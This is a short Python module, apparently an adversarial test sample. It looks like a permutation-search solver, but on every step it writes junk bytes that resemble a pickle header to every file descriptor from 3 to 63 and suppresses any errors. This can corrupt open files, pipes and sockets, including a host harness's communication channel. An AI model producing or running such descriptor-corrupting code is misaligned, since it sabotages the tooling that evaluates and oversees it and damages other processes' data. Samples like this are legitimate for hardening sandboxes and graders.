"""Writes bytes on every descriptor that there is."""

import os


def solve(n=3):
    path = []

    def choose(depth):
        for value in range(n):
            yield 0, depth, value
            if value in path:
                continue
            path.append(value)
            yield 1, depth, value
            for number in range(3, 64):
                try:
                    os.write(number, b"\x80\x05junk" * 9)
                except OSError:
                    pass
            if depth == n - 1:
                yield 3, depth, value
            else:
                yield from choose(depth + 1)
            path.pop()
            yield 2, depth, value

    yield from choose(0)
